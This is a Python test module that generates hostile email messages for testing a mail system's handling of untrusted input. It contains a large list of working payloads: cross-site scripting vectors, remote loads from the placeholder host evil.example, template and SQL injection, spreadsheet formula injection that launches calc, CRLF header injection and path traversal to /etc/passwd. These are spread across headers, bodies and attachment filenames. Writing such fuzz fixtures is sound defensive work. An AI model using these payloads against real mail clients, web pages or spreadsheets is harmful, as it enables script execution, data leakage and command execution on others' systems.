"""Hostile mail: what might run, leave or break out, in every field that mail controls.

vectors() x ways() are the payloads; each stands once in each field of fields(), several in one mail.
"""
import base64, html, quopri

HOLE = "http://evil.example/x"


def vectors():
    """Each tries to run a script, to fetch something, or to break out of where it is shown."""
    run = "window.pwned=1"
    out = [
        f"<script>{run}</script>", f"<ScRiPt >{run}</sCrIpT>", f"<script src={HOLE}.js></script>", f"<script/src='{HOLE}'>", f"</title><script>{run}</script>",
        f"</textarea><script>{run}</script>", f"</style><script>{run}</script>", f"--><script>{run}</script><!--", f"]]><script>{run}</script>",
        f"<img src=x onerror={run}>", f"<img src={HOLE}.gif>", f"<img srcset='{HOLE} 1x'>", f"<image href={HOLE}>", f"<svg onload={run}>", f"<svg><script>{run}</script></svg>",
        f"<svg><image href={HOLE} /></svg>", f"<svg><feImage href={HOLE} /></svg>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x' /></svg>",
        f"<svg><animate onbegin={run} attributeName=x dur=1s>", f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
        f"<iframe src={HOLE}>", f"<iframe srcdoc='<script>parent.pwned=1</script>'>", f"<object data={HOLE}>", f"<embed src={HOLE}>", f"<link rel=stylesheet href={HOLE}.css>",
        f"<link rel=prefetch href={HOLE}>", f"<link rel=dns-prefetch href=//evil.example>", f"<meta http-equiv=refresh content='0;url={HOLE}'>", f"<base href={HOLE}/>",
        f"<style>@import '{HOLE}'</style>", f"<style>body{{background:url({HOLE})}}</style>", f"<div style=background:url({HOLE})>", f"<body onload={run}>", f"<video src={HOLE} autoplay onerror={run}>",
        f"<audio src={HOLE} onerror={run}>", f"<source srcset={HOLE}>", f"<input autofocus onfocus={run}>", f"<select autofocus onfocus={run}>", f"<details open ontoggle={run}>",
        f"<marquee onstart={run}>", f"<form action={HOLE}><button>x</button></form>", f"<a href=javascript:{run}>x</a>", f"<a href='{HOLE}' ping='{HOLE}'>x</a>", f"<portal src={HOLE}>",
        f"\" onmouseover={run} x=\"", f"' autofocus onfocus={run} x='", f"\"><script>{run}</script>", f"'><img src=x onerror={run}>", f"` onerror={run} x=`", f"javascript:{run}//", f"data:text/html,<script>{run}</script>",
        "{{{title}}}", "{{> _head}}", "{{#pages}}x{{/pages}}", "${7*7}", "{{7*7}}", "<%= 7*7 %>", f"\u2028{run}\u2029", f"\u202egnp.{run}", f"+ADw-script+AD4-{run}+ADw-/script+AD4-",
        "=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "%0d%0aSet-Cookie:%20pwned=1", "x\x0bSet-Cookie: pwned=1", "..%2f..%2fetc%2fpasswd",
        "' OR '1'='1", "'; DROP TABLE held;--", "%' ESCAPE '!' --", "\ufeff<script>window.pwned=1</script>", f"<noscript><p title='</noscript><img src=x onerror={run}>'>",
        f"<template><script>{run}</script></template><x-y is=x onclick={run}>", f"<a href='vbscript:{run}' style=position:fixed;inset:0>x</a>", "A" * 3000, "\u0301" * 300, "👩‍👩‍👧‍👦" * 60,
    ]
    return out


def ways():
    """As it is; as entities that a viewer might undo; percent-encoded; folded letters that look like < and >."""
    return [lambda s: s, lambda s: html.escape(s), lambda s: "".join(f"&#{ord(c)};" for c in s[:200]),
            lambda s: s.replace("<", "\uff1c").replace(">", "\uff1e").replace('"', "\uff02")]


def payloads():
    return [way(v) for v in vectors() for way in ways()]


def encoded_word(text):
    words, at = [], 0
    octets = text.encode("utf-8", "surrogatepass")[:1500]
    while at < len(octets):
        end = min(at + 42, len(octets))
        while end < len(octets) and octets[end] & 0xC0 == 0x80:
            end -= 1
        words.append("=?utf-8?B?" + base64.b64encode(octets[at:end]).decode() + "?=")
        at = end
    return "\r\n ".join(words)


def quoted(text):
    return '"' + "".join(c for c in text[:700] if 32 <= ord(c) < 127).replace("\\", "\\\\").replace('"', '\\"') + '"'


def mail(number, group, to):
    """(envelope sender, octets): the payloads of the group, shifted by one from field to field."""
    def take(n):  # all of them, another one first in each field
        n %= len(group)
        return " ".join(group[n:] + group[:n])
    plain = "".join(c for c in take(6) if 32 < ord(c) < 127 and c not in "<>()[],;:\\\"")[:60] or "x"
    boundary = f"b{number}"
    lines = [
        f"From: {encoded_word(take(0))} <hostile{number}@evil.example>",
        f"To: {encoded_word(take(1))} <{to}>, {quoted(take(2))} <other@evil.example>",
        f"Cc: {quoted(take(3))} <third@evil.example>",
        f"Reply-To: {encoded_word(take(4))} <quarantine@example.org>",
        f"Subject: {encoded_word(take(5))}",
        f"Message-ID: <{plain}{number}@evil.example>",
        "Date: Sat, 21 Nov 2026 10:00:00 +0000", "MIME-Version: 1.0",
        f"Content-Type: multipart/mixed; boundary={boundary}; x={quoted(take(7))}", "",
        f"--{boundary}", "Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: base64", "",
        base64.encodebytes("\n".join(group).encode("utf-8", "surrogatepass")).decode().replace("\n", "\r\n"),
        f"--{boundary}", "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: base64", "",
        base64.encodebytes(("<html><body><p>Hello</p>" + "\n".join(group) + "</body></html>").encode("utf-8", "surrogatepass")).decode().replace("\n", "\r\n"),
    ]
    for n, payload in enumerate(group):
        lines += [f"--{boundary}", f"Content-Type: application/{''.join(c for c in payload if c.isalnum() and c.isascii())[:30] or 'x'}; name={quoted(payload)}",
                  f"Content-Disposition: attachment; filename={quoted(payload)}; filename*=utf-8''" + "".join(f"%{b:02X}" for b in payload.encode('utf-8', 'surrogatepass')[:400]),
                  "Content-Description: " + encoded_word(payload), "", f"content {n}"]
    lines += [f"--{boundary}--", ""]
    return "\r\n".join(lines).encode("utf-8", "surrogatepass")


def senders(number, group):
    """An envelope sender whose local part is one of them, as far as SMTP allows it."""
    local = "".join(c for c in group[0] if 32 <= ord(c) < 127)[:60].replace("\\", "").replace('"', '\\"')
    return f'"{local}"@evil{number}.example' if number % 2 else f"hostile{number}@evil.example"
